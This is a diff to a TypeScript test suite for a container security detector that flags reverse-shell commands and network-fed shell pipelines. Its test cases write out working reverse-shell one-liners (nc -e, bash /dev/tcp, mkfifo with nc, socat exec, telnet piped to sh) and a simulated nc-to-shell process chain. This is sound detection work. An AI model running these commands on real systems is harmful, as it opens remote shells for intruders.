@@ -21,8 +21,8 @@ describe('command patterns', () => {
     expect(BASE64_TO_SHELL.test('echo aGk= | base64 -d | sh')).toBe(true);
     expect(BASE64_TO_SHELL.test('base64 -d cert.b64 > cert.pem')).toBe(false);
     const rs = (s: string) => REVERSE_SHELL_PATTERNS.some(([re]) => re.test(s));
-    for (const bad of ['nc 10.0.0.1 4444 -e /bin/sh', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'socat tcp:1.2.3.4:80 exec:/bin/sh', 'ncat --exec /bin/sh 1.2.3.4 9', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 80 > /tmp/f']) expect(rs(bad), bad).toBe(true);
-    for (const ok of ['nc -z db 5432', 'nc -l -p 8080', 'socat TCP-LISTEN:80,fork TCP:app:8080', 'python3 -m http.server']) expect(rs(ok), ok).toBe(false);
+    for (const bad of ['nc 10.0.0.1 4444 -e /bin/sh', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'socat tcp:1.2.3.4:80 exec:/bin/sh', 'ncat --exec /bin/sh 1.2.3.4 9', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 80 > /tmp/f', 'sh -i 2>&1 | nc 10.0.0.1 4444', 'nc -l -p 4446 | sh', 'nc 10.0.0.1 1 | /bin/bash 2>&1 | nc 10.0.0.1 2', 'telnet 10.0.0.1 23 | sh -i', 'socat tcp:1.2.3.4:80 system:sh']) expect(rs(bad), bad).toBe(true);
+    for (const ok of ['nc -z db 5432', 'nc -l -p 8080', 'socat TCP-LISTEN:80,fork TCP:app:8080', 'python3 -m http.server', 'while :; do date; sleep 5; done | nc metrics 2003', 'sh -c "ls | grep x"', 'nc -z db 5432 && sh start.sh']) expect(rs(ok), ok).toBe(false);
   });
 });
 
@@ -120,6 +120,33 @@ describe('process detectors', () => {
     const hits = run(engine([c]), 'process-masquerading');
     expect(hits.map((f) => [f.severity, f.attack.join()])).toEqual(Array(5).fill(['critical', 'T1036.004']));
     expect(hits.map((f) => f.evidence[0]!.ref).sort()).toEqual(['pid 1000', 'pid 1001', 'pid 1002', 'pid 1003', 'pid 1004']);
+  });
+
+  it('shell-pipeline: follows pipes and named pipes from the network holder to the shell; shared writers and data readers are not joined', () => {
+    const sock = (inode: number, over: Record<string, unknown> = {}) => ({ inode, localPort: 40000 + inode, remoteAddress: '10.0.0.9', remotePort: 4444, ...over });
+    const log = 'pipe:[1]';
+    const c = container({}, {
+      processes: hostProcs('x', [
+        { pid: 10, comm: 'nc', exe: '/bin/busybox', cmdline: 'nc 10.0.0.9 4444', stdio: ['pipe:[20]', '/tmp/f', log], socketInodes: [501] },
+        { pid: 11, comm: 'cat', exe: '/bin/busybox', cmdline: 'cat /tmp/f', stdio: ['/dev/null', 'pipe:[21]', log], fdPaths: ['/tmp/f'] },
+        { pid: 12, comm: 'sh', exe: '/bin/busybox', cmdline: 'sh -i', stdio: ['pipe:[21]', 'pipe:[20]', 'pipe:[20]'] },
+        // A dev server and the shell loop that reads its log lines as data; both write to the engine's log pipe.
+        { pid: 20, comm: 'node', exe: '/usr/bin/node', cmdline: 'node server.js', stdio: ['/dev/null', 'pipe:[30]', log], socketInodes: [502] },
+        { pid: 21, comm: 'sh', exe: '/bin/bash', cmdline: 'sh -c while read l; do echo $l; done', stdio: ['pipe:[30]', log, log] },
+        // A metrics loop pushing to nc: output only, no commands back.
+        { pid: 30, comm: 'sh', exe: '/bin/dash', cmdline: 'sh -c while :; do date; sleep 5; done', stdio: ['/dev/null', 'pipe:[40]', log] },
+        { pid: 31, comm: 'nc', exe: '/usr/bin/nc', cmdline: 'nc metrics 2003', stdio: ['pipe:[40]', log, log], socketInodes: [503] },
+        // syslogd's stdin is its /dev/log unix socket: no network shell.
+        { pid: 40, comm: 'syslogd', exe: '/bin/busybox', cmdline: 'syslogd', stdio: ['socket:[600]', '/dev/null', '/dev/null'] },
+      ]),
+      sockets: [snap('x', '2026-11-23T10:05:00.000Z', [sock(501), sock(502, { state: 'LISTEN', remoteAddress: '0.0.0.0', remotePort: 0, localPort: 3000 }), sock(503, { remotePort: 2003 }), { protocol: 'unix', inode: 600, localAddress: '/dev/log', localPort: 0 }])],
+    });
+    const hits = run(engine([c]), 'shell-pipeline');
+    expect(hits.map((f) => [f.severity, f.summary.replace(/ in c\d+/, '')])).toEqual([
+      ['critical', 'Shell sh -i (pid 12) reads its commands from nc connected to 10.0.0.9:4444, through pipes nc(10) → cat(11) → sh(12), and its output goes back through sh(12) → nc(10).'],
+      ['low', 'Shell script sh -c while :; do date; sleep 5; done (pid 30) pipes its output to nc connected to 10.0.0.9:2003 (dash(30) → nc(31)); it reads no commands from the network.'],
+    ]);
+    expect(run(engine([c]), 'reverse-shell')).toEqual([]);
   });
 
   it('hidden-processes: host-only PIDs, ignoring processes that started after the in-container read', () => {
